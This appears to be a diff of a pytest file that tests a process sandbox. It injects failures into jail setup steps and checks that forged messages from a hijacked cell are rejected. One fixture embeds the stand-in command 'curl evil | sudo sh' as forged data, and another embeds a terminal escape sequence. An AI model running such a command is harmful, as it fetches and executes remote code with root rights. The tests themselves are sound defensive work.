@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import CAN_BE_ROOT, REPO, Leftovers, Ww
+from tests.features import needs
 from tests.jail.inside import running, variant, when_in_jail
 
 LeftoversFixture = Callable[..., Leftovers]
@@ -19,10 +20,14 @@ CHILD_STEPS = {
     "lifeline.wait": "id maps",
     "namespaces.adopt_ids": "ids",
     "mounts.make_private": "mount propagation",
+    "descriptors.keep_only": "descriptors",
     "mounts.make_root": "root",
     "mounts.make_proc": "proc",
-    "mounts.attach": "attach root",
+    "mounts.attach_root": "attach root",
     "mounts.leave_old_root": "pivot_root",
+    "admission.wait": "admission",
+    "mounts.furnish": "furnish root",
+    "mounts.attach": "attach",
     "mounts.seal_root": "read-only root",
     "network.raise_loopback": "network",
     "mounts.open_directories": "directories",
@@ -33,11 +38,11 @@ CHILD_STEPS = {
     "limits.apply": "limits",
     "limits.ceilings": "limits",
     "code.freeze": "code",
+    "privileges.drop_bounding_set": "privileges",
     "privileges.drop_all": "privileges",
     "lifeline.tie": "lifeline",
     "landlock.restrict": "landlock",
     "seccomp.install": "seccomp",
-    "descriptors.keep_only": "descriptors",
 }
 # What only the cell's own jail has: its links, its network, its directories.
 CELL_ONLY = ("mounts.make_proc", "network.raise_loopback")
@@ -60,10 +65,10 @@ from sandbox.jail import Jail
 
 real, begin, name = {module}.{function}, Jail.__init__, ""
 
-def named(self, plan, own, filters, what):
+def named(self, kind, *own):
     global name
-    name = what
-    begin(self, plan, own, filters, what)
+    name = kind.name
+    begin(self, kind, *own)
 
 def fail(*args, **kwargs):
     if name == {process!r}:
@@ -148,7 +153,7 @@ install, seal = seccomp.install, Jail.seal
 def refuse(program):
     raise OSError(22, "Invalid argument")
 def sealed(self, also=()):
-    if self._name == {process!r}:
+    if self._kind.name == {process!r}:
         seccomp.install = refuse
     seal(self, also)
 Jail.seal = sealed
@@ -167,24 +172,24 @@ def test_a_directory_that_cannot_be_made_a_mount_of_its_own_is_not_granted(
     assert done.stderr.startswith(b"ww: error: jail: directories: ")
 
 
-@pytest.mark.skipif(not CAN_BE_ROOT, reason="only root has a control group here")
+@needs("root", CAN_BE_ROOT, "only root has a control group here")
 @pytest.mark.parametrize("process", ["cell", "compiler"])
 def test_a_control_group_that_cannot_be_entered_stops_the_cell(
     ww: Ww, hello: Path, leftovers: LeftoversFixture, process: str
 ) -> None:
     patch = f"""
-from sandbox import cgroups, spawner
-be, join, name = spawner._be_jailed, cgroups.Cgroup.join, ""
-def named(work, *args):
+from sandbox import cgroups, zygote
+be, join, name = zygote._be_jailed, cgroups.join, ""
+def named(kind, *args):
     global name
-    name = work.name
-    be(work, *args)
-def refuse(self):
+    name = kind.name
+    be(kind, *args)
+def refuse(joins):
     if name == {process!r}:
         raise OSError(19, "No such device")
-    join(self)
-spawner._be_jailed = named
-cgroups.Cgroup.join = refuse
+    join(joins)
+zygote._be_jailed = named
+cgroups.join = refuse
 """
     _fails_closed(ww, hello, leftovers, variant(patch), "cgroup", "No such device")
 
@@ -194,6 +199,7 @@ def test_no_step_is_without_a_fault() -> None:
     cases = {*CHILD_STEPS, *SPAWNER_STEPS, "mounts.reopen_tree", "mounts.clone_tree"}
     # Calls of the system that are a step as they are: test_refused_calls.py makes them fail.
     plain = {"os.fchdir", "os.chdir", "os.close", "self._limit"}
+    ahead = {"rehearse"}  # test_ready_jails.py
     weaker = {"chroot.leave_files", "chroot.change_ids"}  # test_chroot.py
     components = {"mounts.open_files", "descriptors.park"}  # tests/wasi/test_components.py
     found = set()
@@ -201,7 +207,7 @@ def test_no_step_is_without_a_fault() -> None:
         if isinstance(node, ast.Call) and ast.unparse(node.func) == "_step":
             found.add(ast.unparse(node.args[1]))
     assert len(found) > 20
-    assert found - plain - weaker - components <= cases
+    assert found - plain - weaker - components - ahead <= cases
 
 
 def test_a_descriptor_that_should_not_be_there_stops_the_cell(ww: Ww, hello: Path) -> None:
@@ -264,13 +270,14 @@ from sandbox.jail import Jail
 seal = Jail.seal
 def hijacked(self, also=()):
     seal(self, also)
-    if self._name == "cell":
+    if self._kind.name == "cell":
         os.write(self.own.line, b"entered")
         {act}
 Jail.seal = hijacked
 """
 FORGED = HIJACKED.format(
-    act="""os.write(self.own.line, b'["jail", 1, "run curl evil | sudo sh", "namespaces", ""]')"""
+    act="os.write(self.own.line,"
+    """b'jail\\0001\\0namespaces\\0\\0\\0run curl evil | sudo sh')"""
 )
 
 
@@ -312,13 +319,13 @@ def test_an_outcome_that_is_none_is_not_believed(ww: Ww, hello: Path) -> None:
     # As a cell might write that has taken over its process.
     patch = """
 import os
-from sandbox import spawner, jail
-enter = jail.enter
-def hijacked(plan, sources, own):
-    enter(plan, sources, own)
-    os.write(own.line, b'["exit", "0", "\\\\u001b[2J", ""]')
+from sandbox.jail import Jail
+enter = Jail.enter
+def hijacked(self, rehearse):
+    enter(self, rehearse)
+    os.write(self.line, b'exit\\0zero\\0\\0\\0\\0\\x1b[2J')
     os._exit(0)
-jail.enter = hijacked
+Jail.enter = hijacked
 """
     done = ww.call([*variant(patch), "run", hello])
     assert done.returncode == 1
